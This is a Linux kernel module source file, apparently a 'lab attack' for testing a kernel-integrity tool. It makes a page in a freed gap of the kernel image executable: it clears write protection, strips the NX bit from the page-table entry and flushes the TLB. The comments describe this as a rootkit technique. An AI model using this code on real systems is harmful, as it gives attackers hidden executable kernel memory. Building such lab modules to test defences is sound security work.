// SPDX-License-Identifier: GPL-2.0
/* Lab attack: make a page of a freed gap of the kernel image executable.
 * After boot Linux frees the image's text/rodata and rodata/data gaps; on a
 * host CPU that needs no PTI the gap pages stay mapped, read-only and not
 * executable, in the image mapping while the allocator reuses their frames.
 * A rootkit that clears NX on such a page has an executable alias of memory
 * it can fill through the direct map. The page to open is `addr` (the
 * caller passes __end_rodata, the first page of the rodata/data gap).
 *
 * The change stays when the module is unloaded. */
#include <linux/module.h>
#include <linux/kernel.h>
#include <linux/mm.h>
#include <asm/pgtable.h>
#include <asm/tlbflush.h>
#include "vigil_lab.h"

static unsigned long addr;
module_param(addr, ulong, 0400);
MODULE_PARM_DESC(addr, "a page of a freed gap of the kernel image, from /proc/kallsyms");

static int __init gapx_init(void)
{
	unsigned int level;
	pte_t *pte;

	if (!addr)
		return -EINVAL;
	pte = lookup_address(addr & PAGE_MASK, &level);
	if (!pte || !pte_present(*pte)) {
		pr_info("vigil_gapx: %lx is not mapped\n", addr);
		return -ENOENT;
	}
	/* A 4 KiB entry, or the 2 MiB or 1 GiB leaf that maps it: NX is bit 63
	 * in each. */
	LAB_WITH_WP_CLEARED(set_pte(pte, __pte(pte_val(*pte) & ~_PAGE_NX)));
	__flush_tlb_all();
	pr_info("vigil_gapx: %lx (level %u) is executable now\n", addr, level);
	return 0;
}

static void __exit gapx_exit(void)
{
}
module_init(gapx_init);
module_exit(gapx_exit);
MODULE_LICENSE("GPL");
